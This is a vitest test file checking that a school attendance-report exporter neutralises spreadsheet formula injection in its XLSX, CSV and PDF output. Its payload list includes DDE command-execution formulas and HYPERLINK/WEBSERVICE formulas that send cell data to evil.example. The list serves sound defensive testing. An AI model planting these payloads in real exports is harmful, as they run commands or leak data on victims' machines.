import { strFromU8, unzipSync } from "fflate";
import { beforeAll, describe, expect, it } from "vitest";
import { separator } from "../../server/exports/csv.ts";
import { hundredths } from "../../server/exports/numbers.ts";
import type { Language } from "../../shared/api/account.ts";
import { openedBySpreadsheet, parseCsv, pdfText } from "../support/office.ts";
import { NAMES, sampleDocument, sampleFrame, sampleReport } from "../support/sample-report.ts";
import { tool } from "../support/tools.ts";

/** The reports as other programs see them: LibreOffice and pdftotext. */
const TIMEOUT_MS = 150_000;
// `npm test` has installed them already
beforeAll(() => void [tool("soffice", "SOFFICE"), tool("pdftotext", "PDFTOTEXT")], 300_000);

/** Names and remarks of people who would like a teacher's spreadsheet to do something for them. */
const MALICIOUS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=WEBSERVICE("http://evil.example/"&B2)',
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '","=1+1","',
  '";"=1+1";"',
  "\t=1+1",
  "\r=1+1",
  "x\n=1+1",
  " =1+1",
  "＝1+1",
  "'=1+1",
  '<f>1+1</f><v t="str">&amp;</v>',
  "_x003D_1+1",
  "\u202e=1+1\u0007",
];

describe("what other programs read", { timeout: TIMEOUT_MS }, () => {
  it.each(["en", "es"] as const)(
    "LibreOffice shows the report's numbers of an XLSX in %s",
    async (language) => {
      const { report } = sampleReport(NAMES, 14);
      const [detail = [], meetings = [], overview = [], summary = []] = byName(
        await openedBySpreadsheet(await sampleDocument("xlsx", language), { extension: "xlsx" }),
        language,
      );
      const table = summary.slice(
        summary.findIndex((row) => row[1] === "2025-1000" || /Número|Student number/.test(row[1] ?? "")) + 1,
      );
      expect(
        table
          .slice(0, NAMES.length)
          .map(([name, , , of, present, late, excused, absent, open, not, share]) => [
            name,
            of,
            present,
            late,
            excused,
            absent,
            open,
            not,
            share,
          ]),
      ).toEqual(
        report.students.map((s) => [
          s.name,
          `${s.share.of}`,
          `${s.present}`,
          `${s.late}`,
          `${s.excused}`,
          `${s.absent}`,
          `${s.unsettled}`,
          `${s.notApplicable}`,
          `${hundredths(s.share.basisPoints ?? 0, "en")}%`,
        ]),
      );
      // Madrid's clock, before and after the end of summer time
      expect(meetings.slice(1, 5).map(([start, end, utc]) => [start, end, utc])).toEqual([
        ["2025-10-06 10:15", "2025-10-06 11:45", "UTC+02:00"],
        ["2025-10-13 10:15", "2025-10-13 11:45", "UTC+02:00"],
        ["2025-10-20 10:15", "2025-10-20 11:45", "UTC+02:00"],
        ["2025-10-27 10:15", "2025-10-27 11:45", "UTC+01:00"],
      ]);
      expect(overview.slice(1).map((row) => row.slice(2).join("").length)).toEqual(NAMES.map(() => 14));
      expect(detail.length).toBe(1 + NAMES.length * 14);
    },
  );

  it.each(["en", "es"] as const)(
    "LibreOffice shows the report's numbers of a CSV in %s",
    async (language) => {
      const { report } = sampleReport(NAMES, 14);
      const [rows = []] = await openedBySpreadsheet(await sampleDocument("csv", language), {
        extension: "csv",
        separator: separator(language) === ";" ? ";" : ",",
      });
      expect(rows.slice(1).map(([name, , , of, present]) => [name, of, present])).toEqual(
        report.students.map((s) => [s.name, `${s.share.of}`, `${s.present}`]),
      );
    },
  );

  it("pdftotext reads the report's numbers, on numbered pages", async () => {
    const { report } = sampleReport(NAMES, 14);
    const text = await pdfText(await sampleDocument("pdf", "en"));
    for (const { name, share, present, late, excused, absent, unsettled, notApplicable } of report.students) {
      const shown = [share.of, present, late, excused, absent, unsettled, notApplicable];
      const line = text.split("\n").find((one) => one.includes(name) && one.includes("÷")) ?? "";
      expect([
        name,
        line
          .match(/\b\d+(?= {2,})/g)
          ?.slice(-7)
          .map(Number),
      ]).toEqual([name, shown]);
      expect(line).toContain(`${hundredths(share.basisPoints ?? 0, "en")} %`);
    }
    const { totals } = report;
    expect(text).toContain(
      `${totals.taken} of ${totals.meetings} meetings taken · ${totals.cancelled} cancelled`,
    );
    expect(text).toContain("Mon 27 Oct 2025, 10:15–11:45");
    expect(text).toContain("Data as of 2025-12-20 11:00");
    const [, last = "0"] = /Page 1 of (\d+)/.exec(text) ?? [];
    expect(text).toContain(`Page ${last} of ${last}`);
    expect(text).not.toContain(`Page ${Number(last) + 1} of`);
  });
});

describe("formulas that people write", { timeout: TIMEOUT_MS }, () => {
  const folded = () =>
    sampleReport(MALICIOUS, 3, { course: { ...sampleFrame([], 1).course, name: MALICIOUS[1] ?? "" } });
  const shown = (text: string) => text.replaceAll("\r\n", "\n").replaceAll("\r", "\n");

  it("are texts in XLSX: no formula is in the file, and LibreOffice gives each back as it was written", async () => {
    for (const remark of MALICIOUS) {
      const bytes = await sampleDocument("xlsx", "en", folded(), remark);
      const parts = Object.entries(unzipSync(bytes)).filter(([name]) => name.includes("worksheets"));
      for (const [, part] of parts) expect(strFromU8(part)).not.toMatch(/<f[ >]/);
    }
    const remark = MALICIOUS[0] ?? "";
    const [detail = []] = byName(
      await openedBySpreadsheet(await sampleDocument("xlsx", "en", folded(), remark), { extension: "xlsx" }),
      "en",
    );
    const names = new Set(detail.slice(1).map(([name]) => shown(name ?? "")));
    expect([...names].toSorted()).toEqual(MALICIOUS.map((name) => shown(name)).toSorted());
    expect(new Set(detail.slice(1).map((row) => row[10] ?? ""))).toEqual(new Set(["", "Strike", remark]));
  });

  it.each(["en", "es"] as const)(
    "are texts in CSV in %s: what would compute has an apostrophe before it",
    async (language) => {
      for (const format of ["csv", "csv_detail"] as const) {
        const bytes = await sampleDocument(format, language, folded(), MALICIOUS[2]);
        const written = parseCsv(bytes.toString("utf8"), separator(language));
        for (const row of written)
          for (const cell of row) expect(cell).not.toMatch(/^[\s\u202e]*[=+\-@＝＋－＠]|^[\t\r\n]/u);
        const [opened = []] = await openedBySpreadsheet(bytes, {
          extension: "csv",
          separator: separator(language) === ";" ? ";" : ",",
        });
        const names = (rows: string[][]) => rows.slice(1).map(([name]) => shown(name ?? ""));
        expect(names(opened)).toEqual(names(written));
        const bare = names(opened).map((name) =>
          name.replace(/^'(?=[\s\u202e]*[=+\-@＝＋－＠]|[\t\r\n])/u, ""),
        );
        const expected = new Set(MALICIOUS.map((name) => shown(name).replace(/^'(?==)/, "")));
        expect(new Set(bare)).toEqual(expected);
      }
    },
  );

  it("are words in PDF", async () => {
    const text = await pdfText(await sampleDocument("pdf", "en", folded(), MALICIOUS[2]));
    expect(text).toContain("=HYPERLINK");
    expect((await sampleDocument("pdf", "en", folded(), MALICIOUS[2])).toString("latin1")).not.toMatch(
      /\/(JavaScript|JS|Launch|URI)\b/,
    );
  });
});

/** The sheets of an XLSX in the order detail, meetings, overview, summary, however the folder lists them. */
function byName(sheets: string[][][], language: Language): string[][][] {
  const has = (sheet: string[][], row: number, text: RegExp) =>
    (sheet[row] ?? []).some((cell) => text.test(cell));
  const es = language === "es";
  const find = (test: (sheet: string[][]) => boolean) => sheets.find(test) ?? [];
  return [
    find((sheet) => has(sheet, 0, es ? /^Procedencia$/ : /^Where it comes from$/)),
    find((sheet) => has(sheet, 0, es ? /^Motivo de cancelación$/ : /^Why cancelled$/)),
    find((sheet) => has(sheet, 0, /^\d{4}-\d\d-\d\d \d\d:\d\d–/)),
    find((sheet) => has(sheet, 0, es ? /^Informe de asistencia$/ : /^Attendance report$/)),
  ];
}
